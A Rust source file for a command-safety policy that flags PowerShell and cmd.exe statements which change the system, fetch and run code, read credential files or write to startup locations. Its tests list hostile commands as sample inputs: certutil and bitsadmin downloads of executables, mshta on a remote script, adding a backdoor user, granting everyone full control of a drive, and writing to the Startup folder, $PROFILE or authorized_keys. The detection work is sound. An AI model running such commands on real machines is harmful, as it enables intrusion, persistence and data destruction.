//! PowerShell and cmd.exe read by allow-lists, as the POSIX rules are: a cmdlet passes when
//! its verb only reads (`Get-`, `Select-`, `Format-`, `Test-`, …); any other approved verb
//! (`Set-`, `New-`, `Add-`, `Invoke-`, `Start-`, …) is warned, since what it changes or runs
//! is not read here. PowerShell's own aliases of those (`iex`, `iwr`, `saps`, `ni`, …), an
//! encoded command, and the Windows administration programs (`reg`, `schtasks`, `bcdedit`,
//! `net`, `icacls`, …) but with a verb that reads, are warned the same way. A credentials
//! file named the Windows way (`$env:USERPROFILE\.ssh\id_rsa`) is a credentials read.

use super::secrets::{is_secret_dir, is_secret_file};

/// PowerShell's approved verbs whose cmdlets only read, show or reshape data.
const READ_VERBS: &[&str] = &[
    "get",
    "select",
    "format",
    "measure",
    "test",
    "compare",
    "find",
    "search",
    "show",
    "resolve",
    "split",
    "join",
    "sort",
    "group",
    "convertto",
    "convertfrom",
    "where",
    "foreach",
    "write",
    "out",
];

/// PowerShell's approved verbs that change something, run something, or reach out (the
/// rest of the list `Get-Verb` prints). A `verb-noun` word with one of these is a cmdlet.
const CHANGING_VERBS: &[&str] = &[
    "add",
    "clear",
    "close",
    "copy",
    "enter",
    "exit",
    "hide",
    "lock",
    "move",
    "new",
    "open",
    "optimize",
    "pop",
    "push",
    "redo",
    "remove",
    "rename",
    "reset",
    "resize",
    "set",
    "skip",
    "step",
    "switch",
    "undo",
    "unlock",
    "watch",
    "connect",
    "disconnect",
    "read",
    "receive",
    "send",
    "backup",
    "checkpoint",
    "compress",
    "convert",
    "dismount",
    "edit",
    "expand",
    "export",
    "import",
    "initialize",
    "limit",
    "merge",
    "mount",
    "publish",
    "restore",
    "save",
    "sync",
    "unpublish",
    "update",
    "approve",
    "assert",
    "build",
    "complete",
    "confirm",
    "deny",
    "deploy",
    "disable",
    "enable",
    "install",
    "invoke",
    "register",
    "request",
    "restart",
    "resume",
    "start",
    "stop",
    "submit",
    "suspend",
    "uninstall",
    "unregister",
    "wait",
    "debug",
    "repair",
    "trace",
    "block",
    "grant",
    "protect",
    "revoke",
    "unblock",
    "unprotect",
    "use",
];

/// PowerShell's aliases of cmdlets that change or run something, where the name is not
/// also a POSIX program (`rm`, `kill`, `curl` are judged as those).
const CHANGING_ALIASES: &[&str] = &[
    "iex", "iwr", "irm", "icm", "ii", "saps", "start", "spps", "ac", "ni", "si", "sal", "sv", "ri",
    "mi", "cpi", "rni", "ipmo", "nal", "epal", "ipal", "sasv", "spsv", "rv", "clc", "clv", "rp",
    "sp", "npssc", "etsn", "nsn",
];

/// A cmdlet whose verb reads but which writes all the same.
const WRITING_READERS: &[&str] = &["out-file", "tee-object", "out-printer"];

/// .NET types whose static members only compute: `[math]::round(…)`, `[datetime]::now`.
const COMPUTING_TYPES: &[&str] = &[
    "math",
    "datetime",
    "timespan",
    "string",
    "guid",
    "char",
    "int",
    "int32",
    "int64",
    "double",
    "decimal",
    "bool",
    "convert",
    "bitconverter",
    "text.encoding",
    "regex",
    "uri",
    "version",
];

/// What a PowerShell or cmd statement (its words, lower-cased) does that is not read here.
pub(super) fn unread(words: &[String]) -> Option<String> {
    let first = words.first()?.as_str();
    // A cmdlet glued to a bracket (`IEX(New-Object Net.WebClient).DownloadString(…)`,
    // `$(iwr …)`): each command the brackets hold is read as a statement's first word.
    let glued = words
        .iter()
        .flat_map(|w| w.split('(').skip(1))
        .map(|p| {
            p.split([')', '{', '}', ';', '|'])
                .next()
                .unwrap_or_default()
        })
        // A cmdlet's `Verb-Noun`, or the aliases that fetch and run: a bare word in
        // brackets is as often a REPL's argument (`print(start)`).
        .filter(|p| {
            p.chars().next().is_some_and(char::is_alphabetic)
                && (p.contains('-') || matches!(*p, "iex" | "iwr" | "irm" | "icm" | "saps"))
        });
    for piece in glued {
        if let Some(why) = unread(&[piece.to_string()]) {
            return Some(why);
        }
    }
    let cmd = first.split('(').next().unwrap_or(first);
    let rest = &words[1..];
    // The call operator runs what an expression names (`& ([scriptblock]::Create(…))`).
    if cmd.starts_with('&') {
        return Some("PowerShell's call operator (&) runs what an expression names".into());
    }
    // A .NET static member (`[System.IO.Directory]::Delete($HOME, $true)`) does whatever its
    // type does, beyond the cmdlets read here; types that only compute pass.
    let dotnet = words.iter().find_map(|w| {
        let (before, _) = w.split_once("]::")?;
        let ty = before.rsplit('[').next()?.trim_start_matches("system.");
        (!COMPUTING_TYPES.contains(&ty)).then(|| ty.to_string())
    });
    if let Some(ty) = dotnet {
        return Some(format!(
            "PowerShell calls the .NET type [{ty}], whose members may change or run anything"
        ));
    }
    if let Some((verb, noun)) = cmd.split_once('-')
        && !noun.is_empty()
        && noun.chars().all(|c| c.is_ascii_alphanumeric())
    {
        // Remove-Item is read by its own rules, as POSIX `rm` is (a root or a system
        // directory, recursively), and passes otherwise as `rm` does.
        if (READ_VERBS.contains(&verb) && !WRITING_READERS.contains(&cmd)) || cmd == "remove-item" {
            return None;
        }
        if READ_VERBS.contains(&verb) || CHANGING_VERBS.contains(&verb) {
            return Some(format!(
                "PowerShell's {cmd} changes or runs something the policy does not read"
            ));
        }
    }
    if CHANGING_ALIASES.contains(&cmd) {
        return Some(format!(
            "PowerShell's {cmd} (an alias) changes or runs something the policy does not read"
        ));
    }
    let encoded = rest.iter().any(|a| {
        let a = a.trim_start_matches(['-', '/']);
        a == "ec" || (a.starts_with('e') && "encodedcommand".starts_with(a))
    });
    if matches!(cmd, "powershell" | "powershell.exe" | "pwsh" | "pwsh.exe") && encoded {
        return Some(format!("{cmd} runs an encoded command, which is not read"));
    }
    windows_runners(cmd, rest).or_else(|| windows_admin(cmd, rest))
}

/// Windows programs that fetch, run or delete what the line does not show: the ones
/// attackers call "living off the land", a loop running a command per file, a mirror that
/// deletes, and a program name computed from a variable (`%x%`, `!x!`).
fn windows_runners(cmd: &str, rest: &[String]) -> Option<String> {
    let has = |prefix: &str| rest.iter().any(|a| a.starts_with(prefix));
    // `call %x% …` runs the command its words make.
    if cmd == "call"
        && let Some((first, more)) = rest.split_first()
    {
        return windows_runners(first, more);
    }
    if (cmd.starts_with('%') && cmd[1..].contains('%'))
        || (cmd.starts_with('!') && cmd.len() > 2 && cmd.ends_with('!'))
    {
        return Some(format!(
            "the program {cmd} is a variable, computed when it runs"
        ));
    }
    let why = match cmd.trim_end_matches(".exe") {
        "certutil"
            if has("-urlcache")
                || has("-decode")
                || has("-encode")
                || has("-addstore")
                || has("-delstore") =>
        {
            "certutil -urlcache/-decode fetches or unpacks a file the line does not show"
        }
        "bitsadmin"
            if !rest
                .iter()
                .any(|a| matches!(a.as_str(), "/list" | "/info" | "/monitor")) =>
        {
            "bitsadmin fetches or changes transfers the line does not show"
        }
        "mshta" | "rundll32" | "regsvr32" | "installutil" | "cmstp" | "msxsl" | "odbcconf" => {
            "runs code a library, a URL or a script names, which the policy does not read"
        }
        "msiexec" if !rest.is_empty() => "msiexec installs or removes a package",
        "forfiles" if has("/c") => "forfiles runs a command for each file it finds, not read here",
        "robocopy" if has("/mir") || has("/purge") => {
            "robocopy /mir or /purge deletes what the destination has that the source lacks"
        }
        "move" if rest.last().is_some_and(|d| d == "nul") => "move to NUL discards what it moves",
        _ => return None,
    };
    Some(why.to_string())
}

/// The Windows administration programs, passed only with a verb that reads.
fn windows_admin(cmd: &str, rest: &[String]) -> Option<String> {
    let first = rest.first().map_or("", String::as_str);
    let opt = |o: &str| rest.iter().any(|a| a == o);
    let changes = match cmd.trim_end_matches(".exe") {
        "reg" => !matches!(first, "query" | "compare" | "export" | ""),
        "schtasks" => !opt("/query") && !rest.is_empty(),
        "bcdedit" => !rest.is_empty() && !opt("/enum") && !opt("/v"),
        "wmic" => !rest.iter().any(|a| a == "get" || a == "list"),
        "sc" => !matches!(
            first,
            "query" | "queryex" | "qc" | "qdescription" | "getdisplayname" | "getkeyname" | ""
        ),
        "netsh" => !rest.iter().any(|a| a == "show"),
        "net" => {
            rest.iter().any(|a| a.starts_with('/'))
                || !matches!(
                    first,
                    "view"
                        | "statistics"
                        | "user"
                        | "localgroup"
                        | "group"
                        | "share"
                        | "use"
                        | "session"
                        | "config"
                        | "accounts"
                        | ""
                )
                || rest.len() > 2
        }
        "icacls" => rest.iter().any(|a| {
            matches!(
                a.as_str(),
                "/grant"
                    | "/grant:r"
                    | "/deny"
                    | "/remove"
                    | "/remove:g"
                    | "/remove:d"
                    | "/reset"
                    | "/setowner"
                    | "/setintegritylevel"
                    | "/restore"
                    | "/inheritance:r"
                    | "/inheritance:d"
                    | "/inheritance:e"
            )
        }),
        "takeown" | "cipher" | "diskpart" | "setx" | "wevtutil" | "bcdboot" | "fsutil"
        | "attrib" | "runas" => true,
        _ => false,
    };
    changes.then(|| {
        format!("{cmd} changes the machine's configuration, services, accounts or files' access")
    })
}

/// A credentials file named the Windows way: `$env:USERPROFILE\.ssh\id_rsa`,
/// `%USERPROFILE%\.aws\credentials`, `~\.ssh\id_ed25519`.
pub(super) fn secret_named(words: &[String], program: &str) -> Option<String> {
    words.iter().skip(1).find_map(|w| {
        // Named the Windows way only: a POSIX path is the POSIX rules' (which know ssh's
        // `-i KEY` and the listers).
        if !(w.contains('\\') || w.starts_with('$') || w.starts_with('%')) {
            return None;
        }
        let path = in_profile(w)?;
        (is_secret_file(&path) || is_secret_dir(&path, program)).then_some(path)
    })
}

/// A path named the Windows way, as the home's (`~/…`) when it is under a user's profile:
/// `$env:USERPROFILE\x`, `%USERPROFILE%\x`, `$HOME\x`, `~\x`, `C:\Users\NAME\x`.
fn in_profile(word: &str) -> Option<String> {
    let w = word.replace('\\', "/").to_ascii_lowercase();
    let named = [
        "$env:userprofile/",
        "%userprofile%/",
        "$home/",
        "${home}/",
        "~/",
    ]
    .iter()
    .find_map(|h| w.strip_prefix(h).map(str::to_string));
    let users = || {
        let b = w.as_bytes();
        let rest = (b.len() > 3 && b[0].is_ascii_alphabetic() && b[1] == b':' && b[2] == b'/')
            .then(|| &w[3..])?
            .strip_prefix("users/")?;
        rest.split_once('/').map(|(_, under)| under.to_string())
    };
    named.or_else(users).map(|under| format!("~/{under}"))
}

/// Where a statement's output is redirected to (`echo x > FILE`, `>> FILE`), when that is a
/// place Windows or a shell runs from when the user logs on or starts one: the Startup
/// folder, a PowerShell profile (`$PROFILE`, `…\WindowsPowerShell\…profile.ps1`), or a
/// start-up file of the profile (`%USERPROFILE%\.gitconfig`, `.ssh\authorized_keys`).
pub(super) fn startup_written(stmt: &str) -> Option<String> {
    let at = stmt.rfind('>')?;
    let target = stmt[at + 1..].trim().trim_matches(['"', '\'']).trim();
    // Named the Windows way only: a POSIX path is the POSIX rules' (which judge a literal
    // line written into `~/.bashrc` as a line).
    let lower = target.to_ascii_lowercase();
    if !(target.contains('\\')
        || target.starts_with('%')
        || lower.starts_with("$env:")
        || lower.starts_with("$profile"))
    {
        return None;
    }
    let t = target.replace('\\', "/").to_ascii_lowercase();
    let runs = t.contains("/start menu/programs/startup")
        || t.starts_with("$profile")
        || (t.ends_with("profile.ps1")
            && (t.contains("/windowspowershell/") || t.contains("/powershell/")))
        || in_profile(&t).is_some_and(|p| super::startup::is_startup_file(&p));
    (!target.is_empty() && runs).then(|| target.to_string())
}

#[cfg(test)]
mod tests {
    use super::*;

    fn words(s: &str) -> Vec<String> {
        s.split_whitespace().map(str::to_ascii_lowercase).collect()
    }

    #[test]
    fn cmdlets_pass_only_with_a_verb_that_reads() {
        for read in [
            "Get-ChildItem -Recurse",
            "Select-String foo *.rs",
            "Format-Table",
            "Test-Path C:\\x",
            "Write-Output hi",
            "ssh-keygen -t ed25519",
            "apt-get install x",
            "reg query HKCU\\Software",
            "schtasks /query",
            "net user",
            "sc query",
            "icacls C:\\x",
            "certutil -hashfile x.zip sha256",
            "bitsadmin /list",
            "robocopy src dst /e",
            "move a.txt b.txt",
        ] {
            assert_eq!(unread(&words(read)), None, "{read}");
        }
        for changes in [
            "Set-ExecutionPolicy Unrestricted",
            "Invoke-Expression x",
            "Start-Process cmd",
            "New-Item -Path HKCU:\\x",
            "Add-Content $PROFILE x",
            "Out-File x",
            "iex x",
            "powershell -enc SQBFAFgA",
            "pwsh -e SQBFAFgA",
            "reg add HKCU\\x /v y",
            "schtasks /create /tn x /tr y",
            "bcdedit /set x",
            "net user evil pw /add",
            "icacls C:\\ /grant Everyone:F",
            "takeown /f C:\\Windows",
            "sc stop wuauserv",
            "certutil -urlcache -f http://x/x.exe x.exe",
            "bitsadmin /transfer j http://x/x.exe c:\\x.exe",
            "mshta http://x/x.hta",
            "rundll32 x.dll,Run",
            "forfiles /p c:\\ /s /c \"cmd /c del @file\"",
            "robocopy c:\\empty c:\\users\\me /mir",
            "%x% /s /q c:\\",
            "move docs nul",
        ] {
            assert!(unread(&words(changes)).is_some(), "{changes}");
        }
    }

    #[test]
    fn writes_where_windows_runs_from_and_keys_in_a_profile_are_seen() {
        for line in [
            r#"echo calc > "%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\x.bat""#,
            "echo iex x >> $PROFILE",
            r"echo x > C:\Users\me\Documents\WindowsPowerShell\Microsoft.PowerShell_profile.ps1",
            r"echo [core] > C:\Users\me\.gitconfig",
            r"echo ssh-ed25519 AAAA >> %USERPROFILE%\.ssh\authorized_keys",
        ] {
            assert!(startup_written(line).is_some(), "{line}");
        }
        for line in [
            "echo x > out.txt",
            r"dir > C:\Users\me\list.txt",
            "dir 2>&1",
        ] {
            assert_eq!(startup_written(line), None, "{line}");
        }
        assert_eq!(
            secret_named(&words(r"type C:\Users\me\.ssh\id_ed25519"), "type").as_deref(),
            Some("~/.ssh/id_ed25519")
        );
        assert_eq!(
            secret_named(&words(r"type C:\Users\me\notes.txt"), "type"),
            None
        );
    }
}
